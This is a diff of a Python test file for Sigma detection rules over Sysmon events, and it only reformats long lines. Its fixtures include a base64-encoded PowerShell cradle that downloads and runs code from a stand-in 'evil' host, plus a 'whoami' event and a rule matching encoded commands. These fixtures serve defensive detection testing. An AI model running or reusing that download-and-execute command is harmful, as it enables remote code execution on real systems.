@@ -26,7 +26,9 @@ from tests.detect.sigma.reference import (
     reference_hits,
 )
 
-ENCODED = base64.b64encode(b"xx IEX (New-Object Net.WebClient).DownloadString('http://evil')").decode()
+ENCODED = base64.b64encode(
+    b"xx IEX (New-Object Net.WebClient).DownloadString('http://evil')"
+).decode()
 
 EVENTS = [
     sysmon(1, Image="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c whoami"),
@@ -103,7 +105,8 @@ RULES: dict[str, tuple[str, str, set[int]]] = {
         {8},
     ),
     "00000000-0000-0000-0000-000000000008": (
-        "    selection:\n        CommandLine|windash|contains: ' -enc '\n    condition: selection\n",
+        "    selection:\n        CommandLine|windash|contains: ' -enc '\n"
+        "    condition: selection\n",
         "category: process_creation",
         {9},
     ),
